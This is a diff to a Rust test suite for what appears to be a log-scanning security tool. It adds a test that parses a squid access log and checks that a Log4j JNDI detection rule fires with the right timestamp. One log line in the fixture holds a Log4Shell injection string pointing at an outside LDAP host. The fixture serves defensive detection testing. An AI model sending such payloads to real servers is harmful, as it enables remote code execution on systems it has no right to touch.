@@ -1203,3 +1203,23 @@ fn sensitive_file_requests() {
         ],
     );
 }
+
+/// A squid access log's records start with a Unix epoch: each hit gets its time from it,
+/// end to end from the CLI.
+#[test]
+fn squid_access_log_hits_take_their_epoch_time() {
+    let dir = tempfile::tempdir().unwrap();
+    write_files(
+        dir.path(),
+        &[(
+            "access.log",
+            b"1639146330.001      2 10.0.0.9 TCP_MISS/200 512 GET http://intranet.example/ - HIER_DIRECT/10.1.1.1 text/html\n\
+              1639146338.123    154 10.0.0.9 TCP_MISS/200 512 GET http://intranet.example/?q=${jndi:ldap://198.51.100.7:1389/a} - HIER_DIRECT/10.1.1.1 text/html\n",
+        )],
+    );
+    let (v, _) = run_json(&["logs", dir.path().join("access.log").to_str().unwrap()]);
+    let hits = v["bundles"][0]["log_hits"].as_array().unwrap();
+    let jndi = hits.iter().find(|h| h["rule"] == "log4j.jndi-lookup").expect("the JNDI hit");
+    assert_eq!(jndi["time"], "2021-12-10T14:25:38.123000000Z");
+    assert_eq!(jndi["locator"]["line"], 2);
+}
